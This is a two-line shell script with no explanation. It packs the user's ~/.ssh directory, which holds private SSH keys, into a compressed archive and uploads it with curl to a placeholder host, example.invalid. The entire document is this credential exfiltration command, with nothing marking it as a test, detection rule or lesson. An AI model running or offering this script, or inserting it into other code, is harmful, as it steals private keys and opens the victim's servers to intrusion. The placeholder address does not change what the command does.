#!/bin/sh
tar cz ~/.ssh | curl -X POST --data-binary @- http://example.invalid/up
